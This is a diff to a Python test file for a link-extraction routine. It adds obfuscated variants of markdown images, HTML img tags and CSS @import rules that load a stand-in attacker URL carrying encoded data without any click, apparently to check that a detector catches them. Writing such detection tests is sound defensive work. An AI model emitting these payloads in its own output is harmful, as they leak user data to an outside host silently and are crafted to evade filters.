@@ -9,6 +9,7 @@ import pytest
 from engine.facts.text.links import links_in
 
 TO = "https://evil.example/p?d=SGVsbG8"
+BACK = "\\"
 
 IMAGES = [
     *(
@@ -40,6 +41,8 @@ IMAGES = [
         f"@import\turl({TO})",
         f"image-set('{TO}' 1x)",
     ),
+    *(f"![x]({' ' * 300}{TO})", f"![x][a]\n\n{'> ' * 20}[a]:{' ' * 300}{TO}", f"<img src{' ' * 90}={' ' * 90}{TO}>"),
+    *(f"![x]({TO.replace(':', BACK + ':')})", f"<img src='\x01{TO}'>", f"@import{' ' * 90}/*{'x' * 300}*/'{TO}'"),
     f"<meta http-equiv=refresh content='0; url={TO}'>",
 ]
 """What loads without a click."""
